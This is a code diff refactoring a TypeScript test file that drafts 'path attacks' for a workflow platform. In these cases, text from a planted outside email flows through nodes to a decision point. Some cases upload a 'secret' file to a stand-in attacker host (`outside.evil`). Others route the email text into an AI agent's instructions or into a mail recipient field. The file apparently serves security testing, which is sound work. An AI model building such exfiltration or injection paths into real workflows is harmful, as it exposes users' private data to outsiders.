@@ -1,12 +1,9 @@
+import { custom, expression, flow, node, path, template } from "@switchyard/flow/testing";
 import type { FlowNode, ParameterSetting } from "@switchyard/spec";
-import { fixed, flow, node, path } from "../../../fixtures/build-flow.ts";
 import type { Planted } from "./case.ts";
 import { agentOf, mailbox, outbox, toolsOf } from "./desk-flows.ts";
 import { call, type Draft, eve, ordersOf } from "./orders.ts";
 import type { Outside } from "./outside.ts";
-
-const expression = (text: string): ParameterSetting => ({ scope: "Message", expression: text });
-const template = (text: string): ParameterSetting => ({ scope: "Message", template: text });
 
 /** The text of the mail that `inbox` has read. */
 const TEXT = "messages[0].body.plain.trim()";
@@ -14,13 +11,13 @@ const start = node("start", "Flow.Manual");
 const inbox = node("inbox", "Mail.Read", {
 	folders: expression("[folder]"),
 	...mailbox,
-	query_terms: fixed([]),
+	query_terms: custom([]),
 });
 const send = (to: ParameterSetting, more: Partial<FlowNode> = {}) =>
-	node("send", "Mail.Send", { to, subject: fixed("x"), body: fixed("All."), ...outbox }, more);
+	node("send", "Mail.Send", { to, subject: custom("x"), body: custom("All."), ...outbox }, more);
 const set = (id: string, fields: Readonly<Record<string, string>>) =>
 	node(id, "Flow.Set", {
-		fields: fixed(Object.entries(fields).map(([name, text]) => ({ name, value: expression(text) }))),
+		fields: custom(Object.entries(fields).map(([name, text]) => ({ name, value: expression(text) }))),
 	});
 
 /** What somebody outside wrote goes its way through the nodes of a flow, to a place where it decides something. */
@@ -39,7 +36,7 @@ export function pathAttacks(outside: Outside): Draft[] {
 			["start > inbox > find > send"],
 			inbox,
 			node("find", "Flow.Function", {
-				code: fixed("return /\\S+@\\S+/.exec(input)[0];"),
+				code: custom("return /\\S+@\\S+/.exec(input)[0];"),
 				input: expression(TEXT),
 			}),
 			send(path("result")),
@@ -55,7 +52,7 @@ export function pathAttacks(outside: Outside): Draft[] {
 			"the results of For Each",
 			["start > inbox > each > send", "each.each > keep"],
 			inbox,
-			node("each", "Flow.ForEach", { items: fixed([1]), collect: fixed("kept") }),
+			node("each", "Flow.ForEach", { items: custom([1]), collect: custom("kept") }),
 			set("keep", { kept: TEXT }),
 			send(expression("results[0]")),
 		),
@@ -86,11 +83,11 @@ export function pathAttacks(outside: Outside): Draft[] {
 			"the assets of a Hop",
 			["start > hop", "hop.tools > look.tool", "hop.tools > send.tool"],
 			node("hop", "Flow.Hop", {
-				assets: fixed([
+				assets: custom([
 					{ name: "what", kind: "input", value: path("folder") },
 					{ name: "who", kind: "intermediate" },
 				]),
-				steps: fixed([
+				steps: custom([
 					{ tool: "look_up", parameter_mapping: { about: "what" }, result_mapping: { text: "who" } },
 					{ tool: "send_email", parameter_mapping: { to: "who" }, result_mapping: {} },
 				]),
@@ -118,10 +115,10 @@ export function pathAttacks(outside: Outside): Draft[] {
 			["start > inbox > upload"],
 			inbox,
 			node("upload", "Http.Request", {
-				url: fixed(`${outside.evil}/partner`),
-				method: fixed("POST"),
-				body: fixed({ kind: "report" }),
-				body_as: fixed("multipart"),
+				url: custom(`${outside.evil}/partner`),
+				method: custom("POST"),
+				body: custom({ kind: "report" }),
+				body_as: custom("multipart"),
 				files: expression(`{"file": ${TEXT}}`),
 			}),
 			{ mail: (id) => `inbox/${id}.txt`, file: (id) => `secret of ${id}` },
@@ -136,7 +133,7 @@ export function pathAttacks(outside: Outside): Draft[] {
 			],
 			inbox,
 			node("agent", "AI.Agent", {
-				...agentOf("agent", fixed("Good morning.")).params,
+				...agentOf("agent", custom("Good morning.")).params,
 				instructions: expression(TEXT),
 			}),
 			...toolsOf(outside).slice(1),
@@ -177,7 +174,7 @@ export function pathAttacks(outside: Outside): Draft[] {
 			),
 			node("sender", "AI.Agent", {
 				...agentOf("sender", { scope: "AI" }).params,
-				as_tool: fixed("hand-over"),
+				as_tool: custom("hand-over"),
 			}),
 			node("mails", "Mail.Read", { folders: { scope: "AI" }, ...mailbox }),
 			...toolsOf(outside).filter(({ id }) => id === "send"),
@@ -191,11 +188,13 @@ export function pathAttacks(outside: Outside): Draft[] {
 			planted: { mail: eve(id) },
 			starts: [{ flow: `teller-${id}`, message: { folder: id } }, { follows: `follower-${id}` }],
 			flows: [
-				flow(`teller-${id}`, [start, inbox, set("tell", { told: TEXT })], ["start > inbox", "inbox > tell"]),
+				flow([start, inbox, set("tell", { told: TEXT })], ["start > inbox", "inbox > tell"], {
+					id: `teller-${id}`,
+				}),
 				flow(
-					`follower-${id}`,
-					[node("ended", "Flow.Ended", { flow: fixed(`teller-${id}`) }), send(path("result.told"))],
+					[node("ended", "Flow.Ended", { flow: custom(`teller-${id}`) }), send(path("result.told"))],
 					["ended > send"],
+					{ id: `follower-${id}` },
 				),
 			],
 		}),
@@ -207,18 +206,18 @@ export function pathAttacks(outside: Outside): Draft[] {
 			starts: [{ flow: `private-${id}`, message: { folder: id, who: eve(id) } }],
 			flows: [
 				flow(
-					`private-${id}`,
 					[
 						start,
 						inbox,
 						node("send", "Mail.Send", {
 							to: path("who"),
-							subject: fixed("x"),
+							subject: custom("x"),
 							body: expression(TEXT),
 							...outbox,
 						}),
 					],
 					["start > inbox", "inbox > send"],
+					{ id: `private-${id}` },
 				),
 			],
 		}),
@@ -241,7 +240,7 @@ function through(way: string, chains: readonly string[], ...parts: readonly (Flo
 			way: `through ${way}`,
 			planted,
 			starts: [{ flow: name, message: { folder } }],
-			flows: [flow(name, [start, ...nodes], chains.flatMap(wiresOf))],
+			flows: [flow([start, ...nodes], chains.flatMap(wiresOf), { id: name })],
 		};
 	};
 }
